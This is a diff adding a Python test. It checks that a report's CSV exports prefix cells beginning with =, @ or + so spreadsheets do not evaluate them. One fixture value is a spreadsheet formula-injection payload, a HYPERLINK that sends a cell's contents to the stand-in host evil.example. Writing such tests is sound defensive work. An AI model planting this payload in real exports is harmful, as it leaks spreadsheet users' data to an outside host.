@@ -1,0 +1,34 @@
+"""What a report publishes: its tables as CSV files a spreadsheet opens safely."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pandas as pd
+
+from safer_analysis.present.publication import Report
+
+
+def test_a_report_writes_no_cell_a_spreadsheet_would_run_into_its_csv(tmp_path):
+    frame = pd.DataFrame(
+        {
+            "project": ['=HYPERLINK("http://evil.example/?leak="&B2,"Click")', "@SUM(1)", "Street pastors"],
+            "rank": ["=2 of 8", "1 of 8", "3 of 8"],
+            "change_pct": [-7.5, 1.25, -0.5],
+            "label": ["-5%", "+14.7%", "+1+1"],
+        }
+    )
+    report = Report("allocation_rationale", "2018-19", "Plymouth", output_dir=tmp_path)
+    page = report.table(frame, "alignment", "Lines").data
+    assert "=2 of 8" in page and "&#x27;=2 of 8" not in page  # the page shows the text as it is
+    text = (tmp_path / "tables" / "allocation_rationale__alignment.csv").read_text(encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1:] == [
+        ['\'=HYPERLINK("http://evil.example/?leak="&B2,"Click")', "'=2 of 8", "-7.5", "-5%"],
+        ["'@SUM(1)", "1 of 8", "1.25", "+14.7%"],
+        ["Street pastors", "3 of 8", "-0.5", "'+1+1"],
+    ]
+    for row in rows:
+        for cell in row:
+            assert not cell.lstrip().startswith(("=", "@")), cell
